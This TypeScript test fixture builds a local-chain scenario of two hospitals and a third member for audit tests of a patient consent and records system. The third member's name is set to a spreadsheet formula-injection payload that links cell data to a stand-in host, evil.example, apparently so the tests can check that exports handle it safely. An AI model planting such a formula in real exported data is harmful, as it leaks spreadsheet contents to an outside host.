// SPDX-License-Identifier: Apache-2.0
import { randomBytes } from "node:crypto";
import { id as personId } from "ethers";
import { EXTENTS } from "../../src/access/access-event.js";
import {
  Chain,
  Writer,
  deploy,
  keySigner,
  type Call,
  type Deployment,
  type StaffSigner,
} from "../../src/chain/index.js";
import {
  Consent,
  Patients,
  purposeNumber,
  signAs,
  type GrantTicket,
  type PatientSigner,
  type TermsRequest,
} from "../../src/consent/index.js";
import {
  LEAF_FORMAT,
  LeafKind,
  MerkleTree,
  indexRef,
  leafHash,
  toHex,
  type Hex,
  type Leaf,
} from "../../src/crypto/index.js";
import { atEnd } from "../support/at-end.js";
import { startChain, type LocalChain } from "../support/local-chain.js";
import { TemporaryVault } from "../vault/temporary-vault.js";

/** Bits of Roles.sol. */
const OPERATOR = 1;
const CLINICIAN = 2;
const YEAR = 365 * 86_400;
const NO_REF: Hex = `0x${"00".repeat(32)}`;

export const CUSTODIAN = "St. Mary Hospital";
export const READER_NAME = "华东医院";
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"Bonus")';

/** Two hospitals (1 keeps, 2 reads) and a third member with a hostile name, on a chain of their own. */
export class TwoHospitals implements AsyncDisposable {
  readonly local: LocalChain;
  readonly chain: Chain;
  readonly vault: TemporaryVault;
  readonly #signers: readonly StaffSigner[];
  readonly #writers = new Map<StaffSigner, Writer>();
  #next = 8; // patients' keys come after those of the staff

  private constructor(local: LocalChain, deployment: Deployment, vault: TemporaryVault) {
    this.local = local;
    this.chain = Chain.open({ url: local.url, deployment });
    this.vault = vault;
    this.#signers = local.keys.map(keySigner);
  }

  static async open(): Promise<TwoHospitals> {
    const local = await startChain();
    const [deployer, governance] = local.keys.map(keySigner);
    const deployment = await deploy({
      url: local.url,
      deployer: deployer!,
      governance: governance!.address,
    });
    const hospitals = new TwoHospitals(local, deployment, await TemporaryVault.make());
    await hospitals.#admit();
    return hospitals;
  }

  get operator(): Writer {
    return this.#writer(4);
  }

  get clinician(): Writer {
    return this.#writer(5);
  }

  get consent(): Consent {
    return new Consent(this.chain, () => this.operator);
  }

  /** A new patient of hospital 1, who signs. */
  async enrol(): Promise<{ patientId: Hex; signer: PatientSigner }> {
    const key = this.#signers[this.#next++]!;
    const signer: PatientSigner = {
      signer: key.address.toLowerCase() as Hex,
      signTypedData: (domain, types, message) => key.signTypedData(domain, types, message),
    };
    const { chain, vault } = this;
    const patients = new Patients({ memberId: 1, chain, vault: vault.vault, operator: () => this.operator });
    const identifiers = [{ system: "urn:mrn", value: toHex(randomBytes(8)) }];
    return { patientId: await patients.enrol({ identifiers, signer }), signer };
  }

  async grant(signer: PatientSigner, request: TermsRequest): Promise<GrantTicket> {
    const prepared = this.consent.terms(request);
    return await this.consent.grant(prepared, await signAs(signer, prepared.typedData));
  }

  /** Anchors one batch: a record of compartment 5 for each ref. @returns the entries as the contracts take them */
  async anchor(patientId: Hex, refs: readonly Hex[] = [NO_REF]) {
    const { records } = this.chain;
    const firstIndex = Number(await records.headOf(1)) + 1;
    const leaves = refs.map<Leaf>((ref, position) => ({
      format: LEAF_FORMAT,
      memberId: 1,
      index: firstIndex + position,
      kind: LeafKind.RECORD,
      compartment: 5,
      recordedDay: 20_000,
      patientId,
      patientSeq: firstIndex + position,
      ref,
      contentDigest: toHex(randomBytes(32)),
      salt: toHex(randomBytes(32)),
    }));
    const tree = MerkleTree.of(leaves.map(leafHash));
    const manifestDigest = randomBytes(32);
    await this.operator.execute(
      await records.anchor.populateTransaction(firstIndex, leaves.length, tree.root, manifestDigest),
    );
    return leaves.map((leaf, position) => ({
      leaf,
      firstIndex,
      count: leaves.length,
      proof: tree.proof(position).map(toHex),
    }));
  }

  async requestScope({ terms }: GrantTicket, extent: (typeof EXTENTS)[number], upTo: number): Promise<void> {
    const scope = {
      compartments: BigInt(terms.compartments),
      recordedFrom: terms.recordedFrom,
      recordedTo: terms.recordedTo,
      upTo,
    };
    const { accessLog } = this.chain;
    const number = EXTENTS.indexOf(extent);
    await this.clinician.execute(
      await accessLog.requestScope.populateTransaction(terms, purposeNumber("TREAT"), number, scope),
    );
  }

  async requestRecords({ terms }: GrantTicket, entries: Awaited<ReturnType<TwoHospitals["anchor"]>>) {
    const { accessLog } = this.chain;
    const purpose = purposeNumber("CAREMGT");
    await this.clinician.execute(await accessLog.requestRecords.populateTransaction(terms, purpose, entries));
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.chain[Symbol.dispose]();
    this.vault[Symbol.dispose]();
    await this.local[Symbol.asyncDispose]();
  }

  async #admit(): Promise<void> {
    const { members } = this.chain;
    for (const [position, name] of [CUSTODIAN, READER_NAME, HOSTILE_NAME].entries()) {
      const admin = this.#signers[2 + (position % 2)]!.address;
      await this.#by(1, members.admit.populateTransaction(admin, name));
    }
    const { timestamp } = (await this.chain.provider.getBlock("latest"))!;
    const staff = [
      [2, 1, 4, OPERATOR],
      [3, 2, 5, CLINICIAN],
    ] as const;
    for (const [admin, memberId, account, roles] of staff) {
      const { address } = this.#signers[account]!;
      await this.#by(
        admin,
        members.enrolStaff.populateTransaction(memberId, address, roles, timestamp + YEAR, personId(address)),
      );
    }
  }

  async #by(account: number, call: Promise<Call>): Promise<void> {
    await this.#writer(account).execute(await call);
  }

  #writer(account: number): Writer {
    const signer = this.#signers[account]!;
    const writer = this.#writers.get(signer) ?? new Writer(this.chain, signer);
    this.#writers.set(signer, writer);
    return writer;
  }
}

/** What happened to one patient, from enrolment to revocation. */
export interface Story {
  hospitals: TwoHospitals;
  patientId: Hex;
  ticket: GrantTicket;
  /** Terms that were revoked and never given. */
  unknownTerms: Hex;
}

/**
 * Enrolment; three records; grants to members 2 and 3; an index, two records and a chart read; the first record
 * amended by the third and the second retracted; a directive; the first grant revoked, and one that was never given.
 * 1 + 5 + 3 events under heads, 2 without. In between, 5,001 empty blocks.
 */
async function tell(): Promise<Story> {
  const hospitals = await TwoHospitals.open();
  const { chain, consent } = hospitals;
  const { patientId, signer } = await hospitals.enrol();
  const another = await hospitals.enrol();
  const inAYear = new Date(Date.now() + YEAR * 1000);
  const [first, second, third] = await hospitals.anchor(patientId, [NO_REF, NO_REF, indexRef(1)]);
  const purposes = ["TREAT", "CAREMGT"] as const;
  const ticket = await hospitals.grant(signer, {
    patient: patientId,
    grantee: 2,
    purposes,
    notAfter: inAYear,
  });
  await hospitals.grant(another.signer, {
    patient: another.patientId,
    grantee: 2,
    purposes,
    notAfter: inAYear,
  });
  await hospitals.requestScope(ticket, "INDEX", 3);
  await hospitals.local.rpc("anvil_mine", ["0x1389"]);
  await hospitals.grant(signer, {
    patient: patientId,
    grantee: 3,
    purposes: ["HRESCH"],
    notAfter: inAYear,
    compartments: [5, 7, 8],
    recordedFrom: new Date("2020-01-01"),
    recordedTo: new Date("2024-12-31"),
  });
  await hospitals.requestRecords(ticket, [first!, second!]);
  await hospitals.requestScope(ticket, "CHART", 3);
  const { records } = chain;
  await hospitals.operator.execute(await records.supersede.populateTransaction(first!, third!));
  await hospitals.operator.execute(await records.retract.populateTransaction(second!));
  const directive = await consent.directive({
    patient: patientId,
    denyEmergency: true,
    deniedCompartments: [5, 6],
    deadline: inAYear,
  });
  await consent.setDirective(directive, await signAs(signer, directive));
  const unknownTerms = toHex(randomBytes(32));
  for (const termsHash of [ticket.termsHash, unknownTerms]) {
    const revocation = consent.revocation(patientId, termsHash);
    await consent.revoke(patientId, termsHash, await signAs(signer, revocation));
  }
  return { hospitals, patientId, ticket, unknownTerms };
}

let told: Promise<Story> | undefined;

/** One story for all audit tests: told once, read often. */
export function theStory(): Promise<Story> {
  return (told ??= toldOnce());
}

async function toldOnce(): Promise<Story> {
  const story = await tell();
  atEnd(async () => {
    told = undefined;
    await story.hospitals[Symbol.asyncDispose]();
  });
  return story;
}
